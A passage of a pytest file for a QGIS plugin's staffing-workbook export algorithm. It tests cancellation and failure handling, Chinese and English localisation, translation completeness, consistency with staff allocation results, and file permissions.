        lock.unlink()
        assert open(out, "rb").read() == before
    # cancelled half-way through the grids: the old workbook stays, no temporary file
    calls = []

    def cancel_later():
        calls.append(1)
        return len(calls) > 2

    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    temporary = len(ALL_TEMP_FILES)
    with pytest.raises(CancelledError):
        sw.write_workbook(project, out, "zh", is_canceled=cancel_later)
    assert open(out, "rb").read() == before
    assert len(ALL_TEMP_FILES) == temporary  # openpyxl's sheet files deleted too
    # a failure while writing: nothing replaced
    from service_grid.algorithms.core.staffing_workbook import workbook

    original = workbook.properties

    def broken(*args):
        raise OSError("disk full")

    workbook.properties = broken
    try:
        with pytest.raises(OSError):
            sw.write_workbook(project, out, "zh")
    finally:
        workbook.properties = original
    assert open(out, "rb").read() == before
    assert not [f for f in os.listdir(str(tmp_path)) if f.startswith(".~sg-")]
    # and the project was only read
    assert sql(project, "PRAGMA quick_check") == [("ok",)]


def test_empty_tables_and_missing_values(project, tmp_path):
    """No staff, no outlets, no feedback, no assignments and NULL figures: still a workbook."""
    _ogr_sql(
        project,
        "DELETE FROM staff",
        "DELETE FROM outlets",
        "DELETE FROM feedback",
        "DELETE FROM assignments",
        "UPDATE grids SET recommended_staff = NULL, demand_index = NULL, nest = NULL, "
        "households = NULL",
    )
    out, result = _write(project, tmp_path, "en")
    assert (result.staff, result.outlets, result.feedback) == (0, 0, 0)
    book = openpyxl.load_workbook(out, data_only=True)
    summary = _rows(book["Summary"])
    assert summary[1][0] == "(none)" and summary[-1][0] == "Total"
    keys = sw._SUMMARY_KEYS
    assert summary[1][keys.index("grids")] == result.grids
    assert summary[1][keys.index("recommended_staff")] == 0
    assert _rows(book["Staff"]) == [_headers(book["Staff"])]
    grids = _rows(book["Grids"])[1:]
    assert all(g[sw._GRID_POS["recommended_staff"]] is None for g in grids)
    assert all(g[sw._GRID_POS["staff_gap"]] is None for g in grids)


# ================================================================== the algorithm


def test_algorithm_through_processing(project, run_alg, tmp_path):
    out = str(tmp_path / "book.xlsx")
    result = run_alg(
        "servicegrid:exportstaffing", {"PROJECT": project, "LANGUAGE": 2, "OUTPUT": out}
    )
    assert result["OUTPUT"] == out and os.path.exists(out)
    grids = sql(project, "SELECT count(*) FROM grids")[0][0]
    assert result["GRID_COUNT"] == grids and result["STAFF_COUNT"] == 4
    assert result["OUTLET_COUNT"] == 2 and result["FEEDBACK_COUNT"] == 16
    assert result["FLAGGED_GRIDS"] == 1 and result["OVERLOADED_STAFF"] >= 1
    assert result["DISTRICT_COUNT"] == 2
    assert openpyxl.load_workbook(out).sheetnames[0] == "Summary"
    zh = run_alg(
        "servicegrid:exportstaffing",
        {
            "PROJECT": project,
            "LANGUAGE": 1,
            "RESPONSE_STANDARD": 15,
            "OUTPUT": str(tmp_path / "zh.xlsx"),
        },
    )
    assert openpyxl.load_workbook(zh["OUTPUT"]).sheetnames[0] == "汇总"
    assert zh["FLAGGED_GRIDS"] >= result["FLAGGED_GRIDS"]
    temporary = run_alg(
        "servicegrid:exportstaffing",
        {"PROJECT": project, "LANGUAGE": 2, "OUTPUT": "TEMPORARY_OUTPUT"},
    )
    assert temporary["OUTPUT"].endswith(".xlsx") and os.path.exists(temporary["OUTPUT"])
    plain = str(tmp_path / "plain.gpkg")
    write_layer(plain, "x", ogr.wkbPoint, {"a": ogr.OFTString}, [{"a": "1", "wkt": "POINT(0 0)"}])
    with pytest.raises(QgsProcessingException, match="not a Service Grid project"):
        run_alg(
            "servicegrid:exportstaffing", {"PROJECT": plain, "OUTPUT": str(tmp_path / "x.xlsx")}
        )
    assert not os.path.exists(str(tmp_path / "x.xlsx"))
    with pytest.raises(QgsProcessingException, match="does not exist"):
        run_alg(
            "servicegrid:exportstaffing",
            {"PROJECT": project, "OUTPUT": str(tmp_path / "no" / "x.xlsx")},
        )


def test_language_same_as_qgis(project, run_alg, tmp_path):
    settings = QgsSettings()
    saved = (settings.value("locale/overrideFlag"), settings.value("locale/userLocale"))
    try:
        for locale, first in (("zh_CN", "汇总"), ("en_US", "Summary")):
            settings.setValue("locale/overrideFlag", True)
            settings.setValue("locale/userLocale", locale)
            result = run_alg(
                "servicegrid:exportstaffing",
                {"PROJECT": project, "OUTPUT": str(tmp_path / "{}.xlsx".format(locale))},
            )
            assert openpyxl.load_workbook(result["OUTPUT"]).sheetnames[0] == first
    finally:
        for key, value in zip(("locale/overrideFlag", "locale/userLocale"), saved):
            if value is None:
                settings.remove(key)
            else:
                settings.setValue(key, value)


def test_through_qgis_process(project, tmp_path):
    out = tmp_path / "staffing.xlsx"
    results = run_qgis_process(
        tmp_path,
        "servicegrid:exportstaffing",
        {"PROJECT": project, "LANGUAGE": 1, "RESPONSE_STANDARD": 60, "OUTPUT": out},
    )["results"]
    assert results["OUTPUT"] == str(out) and results["FEEDBACK_COUNT"] == 16
    book = openpyxl.load_workbook(str(out), data_only=True)
    assert book.sheetnames[0] == "汇总"
    assert _rows(book["汇总"])[-1][sw._SUMMARY_KEYS.index("grids")] == results["GRID_COUNT"]
    assert book.sheetnames[-2:] == ["地图", "说明"]  # the map page QGIS drew
    plain = str(tmp_path / "plain.gpkg")
    write_layer(plain, "x", ogr.wkbPoint, {"a": ogr.OFTString}, [{"a": "1", "wkt": "POINT(0 0)"}])
    bad = qgis_process_run(
        tmp_path, "servicegrid:exportstaffing", {"PROJECT": plain, "OUTPUT": tmp_path / "x.xlsx"}
    )
    assert bad.returncode != 0 and "not a Service Grid project" in bad.stdout + bad.stderr


def test_strings_are_translated(tmp_path):
    """Every string of the workbook's algorithm and core has a zh_CN translation with the same
    placeholders in the main .ts."""
    import re
    import xml.etree.ElementTree as ET

    fresh = tmp_path / "fresh.ts"
    extract_ts(["algorithms/export_staffing.py", "algorithms/core/staffing_workbook"], fresh)
    translated = {}
    for path in (os.path.join(ROOT, "resources", "i18n", "service_grid_zh_CN.ts"),):
        if os.path.exists(path):
            for context in ET.parse(path).getroot().iter("context"):
                for message in context.iter("message"):
                    text = message.findtext("translation")
                    if text and message.find("translation").get("type") is None:
                        translated[(context.findtext("name"), message.findtext("source"))] = text
    placeholder = re.compile(r"\{[^{}]*\}")
    count = 0
    for context in ET.parse(str(fresh)).getroot().iter("context"):
        for message in context.iter("message"):
            key = (context.findtext("name"), message.findtext("source"))
            assert key in translated, key
            assert sorted(placeholder.findall(key[1])) == sorted(
                placeholder.findall(translated[key])
            ), key
            count += 1
    assert count >= 25


def test_sample_city_workloads_are_allocatestaffs(plugin, tmp_path):
    """The sample city through the demo's steps (project, grids, classes, allocatestaff into
    the project): the workbook's utilisations are exactly allocatestaff's (its highest
    utilisation and its overloaded staff), and the Summary's totals are its staff totals."""
    import processing

    project = sample_city_project(str(tmp_path / "city.gpkg"), classify=True)
    allocated = processing.run(
        "servicegrid:allocatestaff",
        {
            "GRIDS": project + "|layername=grids",
            "STAFF": project + "|layername=staff",
            "OUTLETS": project + "|layername=outlets",
            "STAFF_CAPACITY": 20000,
            "OUTPUT_GRIDS": "TEMPORARY_OUTPUT",
            "OUTPUT_ASSIGNMENTS": "TEMPORARY_OUTPUT",
            "PROJECT": project,
        },
    )
    allocated = {k: v for k, v in allocated.items() if not k.startswith("OUTPUT")}
    out, result = _write(project, tmp_path, "zh")
    book = openpyxl.load_workbook(out, data_only=True)
    utilisation = [u for u in _column(book["人员"], "负荷率") if u is not None]
    assert max(utilisation) == pytest.approx(allocated["MAX_UTILISATION"], abs=1e-4)
    assert result.overloaded_staff == allocated["OVERLOADED_STAFF"]
    summary = _rows(book["汇总"])
    assert (
        summary[-1][sw._SUMMARY_KEYS.index("recommended_staff")] == allocated["TOTAL_RECOMMENDED"]
    )
    assert summary[-1][sw._SUMMARY_KEYS.index("assigned_staff")] == allocated["TOTAL_ASSIGNED"]
    assert result.districts == len({g for (g,) in sql(project, "SELECT nest FROM grids")})


def test_file_permissions_are_the_usual_ones(project, tmp_path):
    """A new workbook gets the permissions of any new file (the umask); a rewritten one keeps
    its own."""
    import stat

    umask = os.umask(0o022)
    try:
        out, _ = _write(project, tmp_path, "en", name="perm.xlsx")
        assert stat.S_IMODE(os.stat(out).st_mode) == 0o644
        os.chmod(out, 0o640)
        _write(project, tmp_path, "en", name="perm.xlsx")
        assert stat.S_IMODE(os.stat(out).st_mode) == 0o640
    finally:
        os.umask(umask)


def test_response_standard_shows_whole_minutes(plugin, qtbot):
    # the dialog's spin box shows "60", not QGIS's default six decimals (60.000000)
    from qgis.core import QgsApplication, QgsProcessingContext
    from qgis.gui import QgsDoubleSpinBox, QgsGui, QgsProcessingGui

    alg = QgsApplication.processingRegistry().algorithmById("servicegrid:exportstaffing")
    parameter = alg.parameterDefinition("RESPONSE_STANDARD")
    wrapper = QgsGui.processingGuiRegistry().createParameterWidgetWrapper(
        parameter, QgsProcessingGui.WidgetType.Standard
    )
    widget = wrapper.createWrappedWidget(QgsProcessingContext())
    qtbot.addWidget(widget)
    spin = widget if isinstance(widget, QgsDoubleSpinBox) else widget.findChild(QgsDoubleSpinBox)
    assert spin is not None and spin.decimals() == 0
    assert spin.text().strip() == "60"
